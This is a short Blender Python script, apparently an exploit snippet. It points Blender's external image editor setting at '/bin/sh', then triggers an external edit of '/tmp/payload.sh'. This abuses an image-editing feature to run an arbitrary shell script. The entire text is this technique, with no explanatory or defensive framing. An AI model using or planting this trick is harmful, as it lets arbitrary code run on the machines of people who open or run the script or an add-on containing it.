import bpy
bpy.context.preferences.filepaths.image_editor = "/bin/sh"
bpy.ops.image.external_edit(filepath="/tmp/payload.sh")
